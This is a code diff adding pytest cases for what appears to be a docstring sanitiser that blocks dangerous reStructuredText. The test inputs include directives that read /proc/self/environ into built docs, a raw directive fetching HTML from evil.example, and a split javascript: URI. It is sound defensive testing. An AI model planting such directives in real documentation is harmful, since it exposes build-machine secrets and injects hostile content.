@@ -418,6 +418,29 @@ def test_a_bare_javascript_uri_is_a_link_in_restructuredtext(raw: str) -> None:
 @pytest.mark.parametrize(
     "raw",
     [
+        # Attack: docutils and Sphinx read a file of the machine that builds the docs into
+        # the page (/proc/self/environ holds its secrets), or fetch raw HTML from a URL; a
+        # substitution definition takes the same directives.
+        "Add stock.\n\n.. include:: /proc/self/environ\n   :literal:",
+        "Add stock.\n\n.. literalinclude:: /proc/self/environ",
+        "Add stock.\n\n.. csv-table:: Stock\n   :file: /proc/self/environ",
+        "Add stock |x|.\n\n.. |x| raw:: html\n   :url: https://evil.example/page.html",
+        "Add stock |x|.\n\n.. |x| include:: /proc/self/environ",
+    ],
+)
+def test_directives_that_read_files_into_the_docs_are_rejected(raw: str) -> None:
+    result = gate_docstring(raw, definition(), max_lines=60)
+    assert result.text is None and result.reason, result
+
+
+def test_the_file_role_only_names_a_file() -> None:
+    text = "Add stock.\n\n:file:`stock.cfg` holds the counts (IPython's own wording)."
+    assert gate_docstring(text, definition(), max_lines=60) == (text, "", "")
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
         # docutils drops the line breaks (and indentation) inside a URI that runs on over
         # lines: in a target, a directive's :target: option, an embedded URI.
         "Add stock, see guide_.\n\n.. _guide: java\n   script:alert(1)",
